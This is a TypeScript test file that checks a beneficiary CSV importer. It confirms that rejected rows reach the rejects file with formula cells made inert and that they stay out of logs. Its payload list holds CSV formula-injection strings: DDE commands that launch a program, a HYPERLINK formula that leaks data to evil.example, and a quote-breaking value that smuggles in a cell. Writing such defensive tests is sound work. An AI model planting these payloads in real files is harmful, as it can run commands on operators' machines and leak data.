import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createReadStream } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { ManualClock } from '../../src/clock.ts';
import { KeyRing } from '../../src/crypto/keyring.ts';
import { parseCsv } from '../../src/import/csv.ts';
import { beneficiariesImport } from '../../src/import/beneficiaries.ts';
import { runImport } from '../../src/import/runner.ts';
import { backends, type TestDatabase } from '../support/databases.ts';
import { BENEFICIARY_HEADER, beneficiaryCells, csvRow } from '../../bench/import-data.ts';

/**
 * CSV (formula) injection: an imported file's cells come from outside; rejected rows are
 * written to a rejects file that an operator opens in a spreadsheet, which would run a cell
 * starting with = + - @ (or a tab / CR) as a formula (DDE, HYPERLINK exfiltration). Such
 * cells must come out inert, and no cell may escape its column.
 */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil.example/?leak="&B2,"click")',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  'Martin","=1+1', // tries to close its quotes and start a new cell
];

for (const backend of backends()) {
  describe(`CSV formula injection through the rejects file on ${backend.name}`, { skip: backend.skip }, () => {
    let t: TestDatabase;
    let dir: string;
    const ring = KeyRing.generate('kek-test');
    const clock = new ManualClock();
    before(async () => {
      t = await backend.open();
      dir = await mkdtemp(path.join(tmpdir(), 'sesame-csv-injection-'));
    });
    after(async () => {
      await t?.close();
      await rm(dir, { recursive: true, force: true });
    });

    test('formula cells of rejected rows are written inert, in their own column, and nothing of them reaches the output or the audit log', async () => {
      // Each payload in the given names (rejected by the name rule) and in the phone, of an otherwise valid row.
      const rows = PAYLOADS.map((p, i) => csvRow(beneficiaryCells(i).map((c, k) => (k === 1 || k === 7 ? p : c))));
      const file = path.join(dir, 'attack.csv');
      await writeFile(file, `${BENEFICIARY_HEADER}\n${rows.join('\n')}\n`);
      const stderr = new PassThrough();
      let said = '';
      stderr.on('data', (c: Buffer) => (said += c.toString()));
      const report = await runImport(
        beneficiariesImport({ ring, clock }, { update: false }),
        { db: t.db, ring, clock, operator: 'test' },
        { file, rejectsPath: `${file}.rejects`, batchSize: 3, restart: false, updateIdentity: false, delimiter: 'auto' },
        { stderr, tty: false },
      );
      assert.equal(report.counts.rejected, PAYLOADS.length);

      const out: string[][] = [];
      for await (const r of parseCsv(createReadStream(`${file}.rejects`))) {
        assert.equal(r.problem, null, `line ${r.line} of the rejects file is malformed`);
        out.push(r.fields);
      }
      const width = BENEFICIARY_HEADER.split(',').length + 1;
      assert.ok(out.every((cells) => cells.length === width), 'a cell escaped its column');
      for (const [k, cells] of out.slice(1).entries()) {
        for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `row ${k + 1}: a cell would run as a formula`);
        // The payload is kept (the operator sees what was sent), behind an apostrophe when it starts like a formula.
        const payload = PAYLOADS[k] ?? '';
        assert.equal(cells[1], /^[=+\-@\t\r]/.test(payload) ? `'${payload}` : payload);
        assert.match(cells.at(-1) ?? '', /^line \d+: /);
      }

      for (const p of PAYLOADS) assert.ok(!said.includes(p.trim().slice(0, 12)), 'stderr repeats a cell');
      const audit = await t.superuser(`SELECT payload::text AS p FROM audit_log WHERE type = 'import.batch'`);
      for (const { p } of audit.rows as { p: string }[]) assert.doesNotMatch(p, /cmd|HYPERLINK|SUM|Martin/);
    });
  });
}
